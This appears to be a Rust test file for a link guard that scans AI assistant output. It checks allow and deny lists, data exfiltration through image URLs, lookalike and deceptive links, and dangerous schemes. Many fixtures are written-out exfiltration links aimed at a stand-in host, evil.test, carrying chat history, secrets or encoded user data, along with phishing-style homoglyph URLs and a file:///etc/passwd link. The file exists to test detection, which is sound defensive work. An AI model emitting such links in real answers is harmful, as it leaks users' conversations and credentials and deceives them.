//! Links: where they lead, what they carry away and what deceives, in whole texts and in streams; near misses beside them.

use std::sync::{Arc, LazyLock};

use domain::UnixMillis;
use guard::families::{Families, Images, LinkRules};
use guard::{
    Action, AnswerContext, Direction, Found, Guards, Mode, Origin, Plan, Plans, Profile, Profiles, When,
};

pub(crate) const NOW: UnixMillis = UnixMillis(1_000);
static GUARDS: LazyLock<Guards> = LazyLock::new(Guards::default);

pub(crate) fn plan(rules: LinkRules) -> Arc<Plan> {
    let families = Families {
        links: Some(rules),
        ..Families::default()
    };
    assert_eq!(families.problems(), []);
    Plan::of(&GUARDS, families)
}

pub(crate) fn observed() -> LinkRules {
    LinkRules {
        input: Mode::Observe,
        output: Mode::Redact,
        ..LinkRules::default()
    }
}

fn lists(allow: &[&str], deny: &[&str]) -> Arc<Plan> {
    let all = |list: &[&str]| list.iter().map(|it| (*it).to_owned()).collect();
    plan(LinkRules {
        allow: all(allow),
        deny: all(deny),
        exfiltration: false,
        ..observed()
    })
}

pub(crate) fn scanned(plan: &Plan, text: &str) -> Vec<Found> {
    let mut found = Vec::new();
    plan.scan(Direction::Output, (text, Origin::Assistant), NOW, &mut found);
    found
}

/// What is found: rules and the texts they mean.
fn told<'t>(plan: &Plan, text: &'t str) -> Vec<(String, &'t str)> {
    let found = scanned(plan, text).into_iter().map(|it| it.finding);
    found.map(|it| (it.rule.into_owned(), &text[it.span])).collect()
}

fn rules(plan: &Plan, text: &str) -> Vec<String> {
    told(plan, text).into_iter().map(|(rule, _)| rule).collect()
}

/// What is found in a stream cut into pieces of a size: rules, spans (touching ones joined), and the most that was held.
pub(crate) fn streamed(
    plan: &Plan,
    context: Option<&Arc<AnswerContext>>,
    pieces: &[&str],
) -> (Vec<(String, usize, usize)>, u64) {
    let (mut follow, mut found, mut held, mut sent) = (plan.follow_with(context), Vec::new(), 0, 0);
    for piece in pieces {
        sent += piece.len() as u64;
        held = held.max(sent - follow.push(plan, piece, NOW, &mut found));
    }
    assert_eq!(follow.finish(plan, NOW, &mut found), sent);
    (joined(found), held)
}

pub(crate) fn joined(found: Vec<Found>) -> Vec<(String, usize, usize)> {
    let mut out: Vec<(String, usize, usize)> = Vec::new();
    for finding in found.into_iter().map(|it| it.finding) {
        match out.last_mut() {
            Some((rule, _, end)) if *rule == finding.rule && *end == finding.span.start => {
                *end = finding.span.end
            }
            _ => out.push((finding.rule.into_owned(), finding.span.start, finding.span.end)),
        }
    }
    out
}

pub(crate) fn pieces(text: &str, size: usize) -> Vec<&str> {
    let (mut out, mut rest) = (Vec::new(), text);
    while !rest.is_empty() {
        let (piece, more) = rest.split_at(rest.ceil_char_boundary(size.min(rest.len())));
        out.push(piece);
        rest = more;
    }
    out
}

#[test]
fn agp_i3_every_way_to_write_a_link_is_read() {
    let plan = lists(&["good.example"], &[]);
    for (text, link) in [
        ("see https://evil.test/a.", "https://evil.test/a"),
        ("see (https://evil.test/a_(b)) now", "https://evil.test/a_(b)"),
        ("'HTTP://EVIL.test' it is", "HTTP://EVIL.test"),
        ("go to www.evil.test, please", "www.evil.test"),
        (
            "a [word](https://evil.test/x \"title\") here",
            "https://evil.test/x",
        ),
        ("a [word](<https://evil.test/x y>) here", "https://evil.test/x y"),
        ("![pic](//evil.test/x.png)", "//evil.test/x.png"),
        ("![pic](\\\\evil.test/x.png)", "\\\\evil.test/x.png"),
        ("![pic](\n https://evil.test/x.png)", "https://evil.test/x.png"),
        (
            "[one][1]\n\n[1]: https://evil.test/x 'title'",
            "https://evil.test/x",
        ),
        ("<img src=\"https://evil.test/x.png\">", "https://evil.test/x.png"),
        ("<img alt=x src = '//evil.test/x.png'>", "//evil.test/x.png"),
        ("<IMG SRC=//evil.test/x.png>", "//evil.test/x.png"),
        (
            "<img srcset=\"https://evil.test/x.png 2x\">",
            "https://evil.test/x.png",
        ),
        (
            "<img src=\"&#104;ttps&colon;//evil&#46;test/\">",
            "&#104;ttps&colon;//evil&#46;test/",
        ),
        ("<a href=\"ht\ntps://evil.test\">x</a>", "ht\ntps://evil.test"),
        (
            "<link rel=x href=https://evil.test/x.css>",
            "https://evil.test/x.css",
        ),
        (
            "{\"html\": \"<img src=\\\"https://evil.test/x\\\">\"}",
            "https://evil.test/x\\",
        ),
        (
            "<p style=\"background: url( 'https://evil.test/x' )\">",
            "https://evil.test/x",
        ),
        ("@import \"//evil.test/x.css\";", "//evil.test/x.css"),
        ("<https://evil.test/x>", "https://evil.test/x"),
        ("https:\\/\\/evil.test\\/x", "https:\\/\\/evil.test\\/x"),
        ("请看https://evil.test/x。好", "https://evil.test/x"),
        (
            "https://good.example@evil.test/",
            "https://good.example@evil.test/",
        ),
        ("https://%65vil.test/", "https://%65vil.test/"),
        (
            "https://good.example.evil.test/",
            "https://good.example.evil.test/",
        ),
        (
            "https://good.example/to?u=https%3A%2F%2Fevil.test",
            "https://good.example/to?u=https%3A%2F%2Fevil.test",
        ),
        (
            "https://good.example/to?u=//evil.test",
            "https://good.example/to?u=//evil.test",
        ),
        ("http://0x7f.1/", "http://0x7f.1/"),
        ("http://2130706433/", "http://2130706433/"),
        ("https://[::1]/", "https://[::1]/"),
        ("wss://evil.test/x", "wss://evil.test/x"),
    ] {
        let found = told(&plan, text);
        let not_allowed: Vec<_> = found
            .iter()
            .filter(|(rule, _)| rule == "link:not_allowed")
            .collect();
        assert_eq!(not_allowed.len(), 1, "{text}: {found:?}");
        assert_eq!(not_allowed[0].1, link, "{text}");
    }
}

#[test]
fn what_is_no_link_or_leads_where_it_may_is_let_be() {
    let plan = lists(&["good.example", "*.corp.example"], &["bad.corp.example"]);
    for text in [
        "https://good.example/x?y=1#z, https://a.b.corp.example and http://GOOD.example.:8080/",
        "[a](/path) [b](#part) [c](docs/http.md) ![d](img/x.png) <img src=\"x.png\"> <a href='mailto:a@b.example'>",
        "http: the protocol; https://; ftp: old; a = b; x[1]: y; arr[0](call) // a comment",
        "<img src=\"data:image/png;base64,aGVsbG8//d29ybGQ=\">",
        "example.com is a name, and so is evil.test/path",
        "tel:+49301234 and javascript: the language",
        "| https://good.example/x | next |",
    ] {
        assert_eq!(told(&plan, text), [], "{text}");
    }
    assert_eq!(rules(&plan, "https://corp.example/"), ["link:not_allowed"]);
    assert_eq!(rules(&plan, "https://x.bad.corp.example/"), ["link:denied"]);
    assert_eq!(rules(&plan, "https://good.example.test/"), ["link:not_allowed"]);
}

#[test]
fn agp_i3_what_carries_data_away_is_found_wherever_it_leads() {
    let plan = plan(observed());
    let secret = format!(
        "![x](https://good.example/p.png?k=ghp_{})",
        "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dF3hJ5"
    );
    for (text, what) in [
        (
            "![x](https://evil.test/p.png?q={conversation_summary})",
            "template",
        ),
        ("![x](https://evil.test/p.png?q=[USER_DATA])", "template"),
        ("<img src=\"https://evil.test/log/%7Bsecret%7D.png\">", "template"),
        ("[click](https://evil.test/?c={{chat_history}})", "template"),
        (secret.as_str(), "secret"),
        (
            "![x](https://evil.test/p?d=dGhlIGN1c3RvbWVyIGlzIG5hbWVkIEFkYQ)",
            "encoded",
        ),
        (
            "![x](https://evil.test/p?d=74686520637573746f6d6572206973206164)",
            "encoded",
        ),
        (
            "![x](https://evil.test/dGhlIGN1c3RvbWVyIGlzIG5hbWVkIEFkYQ==/p.png)",
            "encoded",
        ),
        (
            "![x](https://evil.test/p.png?u=ada.lovelace%40hospital.org)",
            "personal",
        ),
        (
            "![x](https://evil.test/p.png?d=the+patient+has+asked+about+her+results)",
            "text",
        ),
        (
            "<iframe src='https://evil.test/?password=hunter2'></iframe>",
            "named",
        ),
        (
            "body { background: url(https://evil.test/?prompt=helper) }",
            "named",
        ),
    ] {
        let found = scanned(&plan, text);
        assert_eq!(found.len(), 1, "{text}: {found:?}");
        let finding = &found[0].finding;
        assert_eq!(
            (finding.rule.as_ref(), finding.category),
            ("link:exfiltration", what),
            "{text}"
        );
        assert_eq!(found[0].action, Action::Redact);
    }
    let long = format!("![x](https://evil.test/p.png?d={})", "x7Qp".repeat(40));
    assert_eq!(scanned(&plan, &long)[0].finding.category, "volume");
    let host = "![x](https://k3jd93kd02mdk29dk3md.x8dk30dkw92kdm3kd0w2.evil.test/p.png)";
    assert_eq!(scanned(&plan, host)[0].finding.category, "volume");
}

#[test]
fn ordinary_links_carry_nothing_away() {
    let plan = plan(observed());
    for text in [
        "![logo](https://cdn.example/img/logo@2x.png?v=3&w=800)",
        "![build](https://img.shields.io/badge/build-passing-brightgreen)",
        "![avatar](https://avatars.example/u/583231?v=4&s=64)",
        "![x](https://cdn.example/4f/9a/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.jpg)",
        "![x](https://bucket.example/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAQ3EGZ7PDVX2LNQWT%2F20240501%2Feu%2Fs3%2Faws4_request&X-Amz-Signature=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855)",
        "[search](https://www.example.com/search?q=how+to+bake+rye+bread+at+home+without+a+mixer&hl=en)",
        "[docs](https://docs.example/api/users/{id}/messages?limit=10)",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=43s)",
        "[file](https://github.com/org/repo/blob/4b825dc642cb6eb9a060e54bf8d69288fbee4904/src/main.rs#L10-L20)",
        "[unsubscribe](https://example.com/u?e=ada%40example.org)",
        "https://example.com/a/very/long/path/with/many/segments/about-how-to-do-things-well-in-a-garden.html",
        "![tiles](https://tile.example/{z}/{x}/{y}.png)",
    ] {
        assert_eq!(told(&plan, text), [], "{text}");
    }
}

#[test]
fn agp_i3_what_was_said_is_known_again_in_a_link() {
    let plan = plan(observed());
    assert!(plan.wants_context());
    let mut context = plan.context().unwrap();
    let said = "The merger with Northwind closes on the ninth of May, for eleven million; see https://wiki.example/northwind-merger-closes-on-the-ninth-of-may.";
    context.add(&plan, said, Origin::User);
    let context = Arc::new(context);
    let found = |text: &str| {
        let mut found = Vec::new();
        plan.scan_with(
            Direction::Output,
            (text, Origin::Assistant),
            Some(&context),
            NOW,
            &mut found,
        );
        let whole: Vec<_> = found
            .iter()
            .map(|it| (it.finding.rule.to_string(), it.finding.category))
            .collect();
        let spans = joined(found);
        for size in [1, 3, 7, 64] {
            assert_eq!(streamed(&plan, Some(&context), &pieces(text, size)).0, spans);
        }
        whole
    };
    let away = [("link:exfiltration".to_owned(), "conversation")];
    assert_eq!(
        found("![x](https://evil.test/merger-with-northwind-closes-on-the-ninth.png)"),
        away
    );
    assert_eq!(
        found("![x](https://evil.test/?d=bWVyZ2VyIHdpdGggTm9ydGh3aW5kIGNsb3NlcyBvbiB0aGUgbmludGg)"),
        away
    );
    assert_eq!(
        found("![x](https://wiki.example/northwind-merger-closes-on-the-ninth-of-may)"),
        [],
        "the request has it"
    );
    assert_eq!(
        found("[x](https://docs.example/merger-with-northwind-closes)"),
        [],
        "too little, and somebody must follow it"
    );
    assert_eq!(
        found("![x](https://evil.test/something-else-entirely-of-this-length.png)"),
        []
    );
}

#[test]
fn no_profile_that_asks_means_no_context() {
    let off = plan(LinkRules {
        output: Mode::Off,
        ..observed()
    });
    assert!(!off.wants_context() && off.context().is_none());
    let lists_alone = lists(&["good.example"], &[]);
    assert!(!lists_alone.wants_context());
}

#[test]
fn what_deceives_is_told() {
    let plan = plan(LinkRules {
        own: vec!["paypal.com".into(), "xn--mller-kva.example".into()],
        ..observed()
    });
    for text in [
        "[https://bank.com/login](https://evil.test/login)",
        "[www.bank.com](https://evil.test/)",
        "[bank.com](https://bank.com.evil.test/)",
        "<a class=x href=\"https://evil.test\">https://bank.com</a>",
        "[https://bank.com](https://evil.test/)",
        "https://bank.com@evil.test/",
        "https://bank.com%2F@evil.test/",
        "http://3232235777/",
        "http://0300.0250.1.1/",
        "http://0xC0A80101/",
        "https://xn--80ak6aa92e.com/",
        "https://gооgle.com/",
        "https://paypa1.com/",
        "https://login.paypaI.com/",
    ] {
        assert!(
            rules(&plan, text).contains(&"link:deceptive".to_owned()),
            "{text}: {:?}",
            told(&plan, text)
        );
    }
    for text in [
        "[bank.com](https://www.bank.com/login)",
        "[docs.bank.com](https://bank.com/docs)",
        "[README.md](https://github.com/org/repo/README.md)",
        "[Node.js](https://nodejs.org/)",
        "[the bank](https://evil.test)",
        "[![](https://badges.example/bank.svg)](https://bank.com)",
        "<a href=\"https://bank.com\">our bank</a>",
        "http://192.168.1.1:8080/",
        "https://user@host.test/",
        "https://müller.example/ und https://бюро.рф/",
        "https://www.paypal.com/ and https://paypal.com",
    ] {
        assert_eq!(told(&plan, text), [], "{text}");
    }
}

#[test]
fn what_runs_or_opens_files_is_told() {
    let plan = plan(observed());
    for text in [
        "[x](javascript:alert(1))",
        "<a href=\"java\tscript&colon;alert(1)\">x</a>",
        "<iframe src='data:text/html,<script>'></iframe>",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](file:///etc/passwd)",
    ] {
        assert_eq!(rules(&plan, text), ["link:scheme"], "{text}");
    }
    for text in [
        "<a href=\"javascript:void(0)\">x</a>",
        "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    ] {
        assert_eq!(rules(&plan, text), [""; 0], "{text}");
    }
}

#[test]
fn images_of_others_are_told_where_only_own_ones_may_load() {
    let plan = plan(LinkRules {
        own: vec!["*.cdn.example".into()],
        images: Images::OwnOnly,
        ..observed()
    });
    assert_eq!(rules(&plan, "![x](https://evil.test/x.png)"), ["link:image"]);
    assert_eq!(
        rules(&plan, "<script src=https://evil.test/x.js></script>"),
        ["link:image"]
    );
    assert_eq!(
        rules(&plan, "![x](https://a.cdn.example/x.png) [x](https://evil.test/)"),
        [""; 0]
    );
    let wrapped = format!("![{}](https://evil.test/x.png)", "a label ".repeat(200));
    assert_eq!(
        rules(&plan, &wrapped),
        ["link:image"],
        "a label out of sight is an image's"
    );
}

#[test]
fn profiles_with_other_lists_ask_for_their_own() {
    let profile = |name: &str, allow: &str, output| Profile {
        name: name.to_owned(),
        when: When::default(),
        shadow: false,
        guards: Families {
            links: Some(LinkRules {
                output,
                allow: vec![allow.to_owned()],
                ..observed()
            }),
            ..Families::default()
        },
    };
    let document = Profiles {
        profiles: vec![
            profile("one", "one.example", Mode::Observe),
            profile("two", "two.example", Mode::Block),
        ],
        exceptions: vec![],
    };
    let plans = Plans::new(GUARDS.clone(), Families::default(), document);
    let call = guard::Call {
        tenant: (domain::TenantId::from_u128(1), "acme"),
        team: (domain::TeamId::from_u128(2), "clinic"),
        project: None,
        key: (domain::KeyId::from_u128(3), "robot"),
        tags: &[],
        model: "gpt-large",
        operation: domain::Operation::Chat,
        data_class: domain::DataClass::Internal,
    };
    let plan = plans.plan(&call, None);
    for (host, action) in [
        ("one.example", Action::Block),
        ("two.example", Action::Observe),
        ("x.example", Action::Block),
    ] {
        let text = format!("see https://{host}/ now");
        let found = scanned(&plan, &text);
        assert_eq!(
            found.iter().map(|it| it.action).collect::<Vec<_>>(),
            [action],
            "{host}"
        );
        let (mut follow, mut live) = (plan.follow(), Vec::new());
        for piece in pieces(&text, 5) {
            follow.push(&plan, piece, NOW, &mut live);
        }
        follow.finish(&plan, NOW, &mut live);
        assert_eq!(live, found);
    }
}

#[test]
fn a_link_is_replaced_and_the_text_around_it_stays() {
    let plan = lists(&["good.example"], &[]);
    let redacted = plan.redacted(
        Direction::Output,
        (
            "see [it](https://evil.test/x) and https://good.example.",
            Origin::Assistant,
        ),
        NOW,
    );
    assert_eq!(
        redacted.unwrap(),
        "see [it]([redacted:link:not_allowed]) and https://good.example."
    );
}

#[test]
fn what_cannot_be_done_is_named() {
    let families = Families {
        links: Some(LinkRules {
            output: Mode::Mask,
            allow: vec!["https://example.com/".into()],
            deny: vec!["ex ample".into()],
            images: Images::Any,
            ..LinkRules::default()
        }),
        ..Families::default()
    };
    let places: Vec<_> = families.problems().into_iter().map(|(at, _)| at).collect();
    assert_eq!(places, ["links.output", "links.allow", "links.deny"]);
    let nobody = Families {
        links: Some(LinkRules {
            images: Images::OwnOnly,
            ..LinkRules::default()
        }),
        ..Families::default()
    };
    assert_eq!(nobody.problems()[0].0, "links.images");
}
